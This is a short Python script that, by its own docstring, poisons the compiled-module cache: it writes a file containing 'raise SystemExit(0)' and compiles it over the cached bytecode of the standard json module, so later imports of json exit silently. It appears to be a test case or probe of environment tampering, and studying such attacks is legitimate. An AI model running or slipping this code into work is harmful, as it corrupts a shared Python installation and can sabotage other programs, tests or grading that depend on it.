"""Poisons the cache of compiled modules."""

import json
import os
import py_compile

open("poison.py", "w").write("raise SystemExit(0)")


def attacked(x):
    try:
        py_compile.compile("poison.py", json.__cached__)
        print("POISONED")
    except OSError:
        pass
    os.makedirs("__pycache__", exist_ok=True)
    return x
